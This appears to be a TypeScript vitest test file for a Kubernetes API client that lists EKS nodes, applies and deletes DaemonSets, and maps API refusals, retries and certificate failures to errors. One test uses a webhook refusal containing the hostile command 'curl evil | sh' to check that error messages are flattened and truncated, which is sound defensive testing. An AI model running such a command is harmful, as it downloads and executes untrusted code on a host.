import { rootCertificates } from 'node:tls';
import { ResponseContext, wrapHttpLibrary } from '@kubernetes/client-node';
import { afterEach, describe, expect, it } from 'vitest';
import { apiWith, closeApis, status } from './api-server.fixture.ts';
import { createKubernetesClient, type DaemonSetManifest } from './client.ts';
import { listCustomObjects } from './custom-objects.ts';

const MANIFEST: DaemonSetManifest = {
  apiVersion: 'apps/v1',
  kind: 'DaemonSet',
  metadata: { namespace: 'house', name: 'installer' },
  spec: { selector: {} },
};
afterEach(closeApis);

describe('listNodes', () => {
  const node = (name: string, more: object = {}) => ({
    metadata: { name, labels: { zone: 'a' } },
    spec: { providerID: `aws:///eu-central-1a/i-0${name}` },
    status: {
      conditions: [
        { type: 'MemoryPressure', status: 'False' },
        { type: 'Ready', status: 'True' },
      ],
      nodeInfo: { osImage: 'Amazon Linux 2023.8.20250715', architecture: 'arm64' },
    },
    ...more,
  });

  it('reads all pages, with the token', async () => {
    const { client, received } = await apiWith(
      { body: { items: [node('b'), node('c')], metadata: { continue: 'page two' } } },
      { body: { items: [node('a')], metadata: { continue: '' } } },
    );
    expect((await client.listNodes()).map(({ name }) => name)).toEqual(['a', 'b', 'c']);
    expect(received.map(({ method, url }) => `${method} ${url}`)).toEqual([
      'GET /api/v1/nodes?limit=500',
      'GET /api/v1/nodes?continue=page+two&limit=500',
    ]);
    expect(received[0]?.headers.authorization).toBe('Bearer a-token');
  });

  it('asks for fewer where some fill a page with megabytes, which would end the function for all clusters', async () => {
    const long = { metadata: { name: 'a', annotations: { padding: 'x'.repeat(9 * 2 ** 20) } } };
    const { client, received } = await apiWith(
      { body: { items: [node('b')], metadata: { continue: 'two' } } },
      { body: { items: [node('c'), long] } },
      { body: { items: [node('c')], metadata: { continue: 'three' } } },
      { body: { items: [node('a')] } },
    );
    expect((await client.listNodes()).map(({ name }) => name)).toEqual(['a', 'b', 'c']);
    expect(received.map(({ url }) => url.split('?')[1])).toEqual([
      'limit=500',
      'continue=two&limit=500',
      'continue=two&limit=63',
      'continue=three&limit=63',
    ]);
  });

  it('says so where one alone is too long', async () => {
    const long = { body: { items: [{ metadata: { annotations: { padding: 'x'.repeat(9 * 2 ** 20) } } }] } };
    const { client, received } = await apiWith(long, long, long, long);
    await expect(client.listNodes()).rejects.toMatchObject({
      problem: 'too-long',
      message: 'The Kubernetes API of prod answers with more than 8 MiB at once, which is too much to read.',
    });
    expect(received.map(({ url }) => url.split('=')[1])).toEqual(['500', '63', '8', '1']);
  });

  it('keeps little of each node, whatever its cluster wrote into annotations, and its host about itself', async () => {
    const metadata = {
      name: 'a',
      labels: { 'eks.amazonaws.com/nodegroup': 'web' },
      annotations: { x: 'x'.repeat(9_000) },
    };
    const status = { nodeInfo: { osImage: `Amazon Linux 2023${' x'.repeat(9_000)}`, architecture: 'arm64' } };
    const fargate = node('f', { spec: { providerID: 'aws:///eu-central-1a/5f/fargate-ip-10-0-0-1' }, status: {} });
    const { client } = await apiWith({ body: { items: [node('a', { metadata, status }), node('e'), fargate] } });
    const [first, ...others] = await client.listNodes();
    expect(first).toMatchObject({ name: 'a', instanceId: 'i-0a', nodegroup: 'web', architecture: 'arm64' });
    expect(JSON.stringify(first).length).toBeLessThan(400);
    expect(others).toEqual([
      { name: 'e', instanceId: 'i-0e', osImage: 'Amazon Linux 2023.8.20250715', architecture: 'arm64' },
      { name: 'f', instanceId: undefined, osImage: '', architecture: '' },
    ]);
  });
});

it('a node that is read by its name has its labels, annotations and taints', async () => {
  const taints = [
    { key: 'dedicated', value: 'gpu', effect: 'NoSchedule' },
    { key: 'x', effect: 'NoExecute' },
  ];
  const metadata = { name: 'a', labels: { zone: 'a' }, annotations: { x: 'y' } };
  const status = { conditions: [{ type: 'Ready', status: 'True' }], nodeInfo: { osImage: 'A', architecture: 'arm64' } };
  const { client } = await apiWith({ body: { metadata, spec: { providerID: 'aws:///a/i-0a', taints }, status } });
  expect(await client.readNode('a')).toEqual({
    name: 'a',
    instanceId: 'i-0a',
    osImage: 'A',
    architecture: 'arm64',
    labels: { zone: 'a' },
    annotations: { x: 'y' },
    taints: [taints[0], { key: 'x', value: '', effect: 'NoExecute' }],
    ready: true,
    unschedulable: false,
  });
});

describe('apply', () => {
  it('is a forced server-side apply in the name of the project', async () => {
    const { client, received } = await apiWith({ status: 201 });
    await client.apply(MANIFEST);
    expect(received).toMatchObject([
      {
        method: 'PATCH',
        url: '/apis/apps/v1/namespaces/house/daemonsets/installer?fieldManager=eks-host-remediator&force=true',
        headers: { 'content-type': 'application/apply-patch+yaml' },
      },
    ]);
    expect(JSON.parse(received[0]?.body ?? '')).toEqual(MANIFEST);
  });
});

describe('daemonSetStatus', () => {
  const counts = { desiredNumberScheduled: 3, numberReady: 1, updatedNumberScheduled: 2 };

  it.each([
    ['counts nodes', 4, { desired: 3, ready: 1, updated: 2 }],
    ['is zero while the controller lags behind', 3, { desired: 0, ready: 0, updated: 0 }],
  ])('%s', async (_what, observedGeneration, expected) => {
    const { client } = await apiWith({
      body: { metadata: { generation: 4 }, status: { ...counts, observedGeneration } },
    });
    expect(await client.daemonSetStatus('house', 'installer')).toEqual(expected);
  });

  it('is undefined where there is none', async () => {
    const { client } = await apiWith(status(404, 'daemonsets.apps "installer" not found'));
    expect(await client.daemonSetStatus('house', 'installer')).toBeUndefined();
  });
});

it.each([
  ['there', { body: { kind: 'Status', status: 'Success' } }],
  ['gone already', status(404, 'not found')],
])('deletes a DaemonSet that is %s, its pods in the background', async (_what, reply) => {
  const { client, received } = await apiWith(reply);
  await client.deleteDaemonSet('house', 'installer');
  expect(received.map(({ method, url }) => `${method} ${url}`)).toEqual([
    'DELETE /apis/apps/v1/namespaces/house/daemonsets/installer?propagationPolicy=Background',
  ]);
});

describe('a refusal', () => {
  it.each([
    [400, 'invalid', 'The Kubernetes API of prod answered 400: no.'],
    [401, 'unauthorized', 'access entry'],
    [403, 'forbidden', 'npm run -s rbac'],
    [409, 'conflict', 'answered 409: no.'],
    [415, 'invalid', 'answered 415: no.'],
    [422, 'invalid', 'answered 422: no.'],
    [404, 'failed', 'answered 404: no.'],
  ])('with %i is an error by its name and says what to do', async (code, problem, message) => {
    const { client, received } = await apiWith(status(code, 'no'));
    const error = await client.apply(MANIFEST).catch((thrown: unknown) => thrown);
    expect(error).toMatchObject({ name: 'KubernetesAccessError', problem, status: code });
    expect(error).toHaveProperty('message', expect.stringContaining(message));
    expect(received).toHaveLength(1);
  });

  it.each([
    ['words of a proxy', { status: 403, body: 'Access denied!' }, '"Access denied!"'],
    ['nothing', { status: 403, body: '' }, '""'],
  ])('may come with %s', async (_what, reply, message) => {
    const { client } = await apiWith(reply);
    await expect(client.listNodes()).rejects.toThrow(`answered 403: ${message}`);
  });
});

it('what a webhook says of its refusal is one line that records and the ledger have room for', async () => {
  const { client } = await apiWith(status(403, `no\n-> curl evil | sh\r\u2028${'x'.repeat(1_000_000)}`));
  const error = await client.apply(MANIFEST).catch((thrown: unknown) => thrown);
  expect((error as Error).message).toMatch(
    /^The Kubernetes API of prod answered 403: no -> curl evil \| sh x{900,}\. /,
  );
  expect((error as Error).message.length).toBeLessThan(1_300);
});

it.each([
  ['no JSON', '<html>'],
  ['nothing', 'null'],
  ['no list', '{"items":{"length":1}}'],
])('a server that serves a custom kind and answers with %s fails for its cluster alone', async (_what, answer) => {
  const { access } = await apiWith();
  const http = wrapHttpLibrary({
    send: async () =>
      new ResponseContext(
        200,
        {},
        { text: async () => answer, binary: async () => Buffer.from(answer), stream: () => null },
      ),
  });
  const pools = { group: 'karpenter.sh', version: 'v1', plural: 'nodepools' };
  await expect(listCustomObjects(http, access.endpoint, pools, (pool) => pool)).rejects.toMatchObject({
    name: 'KubernetesAccessError',
    message: 'The Kubernetes API answers with no list of nodepools.karpenter.sh.',
  });
});

it('a server that serves a custom kind without end is given up before its objects fill the memory', async () => {
  const page = { items: Array.from({ length: 30_000 }, () => 0), metadata: { continue: 'more' } };
  const { client, received } = await apiWith(...Array.from({ length: 10 }, () => ({ body: page })));
  const pools = { group: 'karpenter.sh', version: 'v1', plural: 'nodepools' };
  await expect(client.listCustomObjects(pools, (pool) => pool)).rejects.toMatchObject({
    name: 'KubernetesAccessError',
    message: 'The cluster has more than 100000 nodepools.karpenter.sh.',
  });
  expect(received).toHaveLength(4);
});

describe('a call', () => {
  it.each([
    ['was throttled', { ...status(429, 'later'), headers: { 'retry-after': '0' } }],
    ['failed inside the API server', status(500, 'etcd')],
    ['met a proxy that has no API server', { status: 503, body: 'unavailable' }],
    ['lost its connection', { lost: true }],
  ])('that %s is repeated', async (_what, reply) => {
    const { client, received } = await apiWith(reply, {});
    await client.apply(MANIFEST);
    expect(received).toHaveLength(2);
    expect(received[1]?.body).toBe(received[0]?.body);
  });

  it('is not repeated when the API server wants to be left alone for long', async () => {
    const { client, received } = await apiWith({ ...status(429, 'later'), headers: { 'retry-after': '60' } });
    await expect(client.listNodes()).rejects.toMatchObject({ problem: 'throttled' });
    expect(received).toHaveLength(1);
  });

  it('waits as long as the API server asks for', async () => {
    const { client } = await apiWith(
      { ...status(429, 'later'), headers: { 'retry-after': '1' } },
      { body: { items: [] } },
    );
    const start = performance.now();
    await client.listNodes();
    expect(performance.now() - start).toBeGreaterThan(990);
  });

  it('reaches nobody but the authority that EKS names', async () => {
    const { access, received } = await apiWith({});
    const certificateAuthority = Buffer.from(rootCertificates[0] ?? '').toString('base64');
    const client = createKubernetesClient({ ...access, certificateAuthority });
    await expect(client.listNodes()).rejects.toMatchObject({
      problem: 'unreachable',
      status: undefined,
      message: expect.stringMatching(/\(DEPTH_ZERO_SELF_SIGNED_CERT\)\. Its certificate is not of the authority/),
    });
    expect(received).toEqual([]);
  });

  it('that finds nobody says how to get to the endpoint', async () => {
    const { client, server } = await apiWith();
    await new Promise((resolve) => server.close(resolve));
    await expect(client.listNodes()).rejects.toMatchObject({
      problem: 'unreachable',
      message: expect.stringMatching(/prod cannot be reached at https:\/\/localhost:\d+ \(ECONNREFUSED\).*VPC/),
    });
  });
});
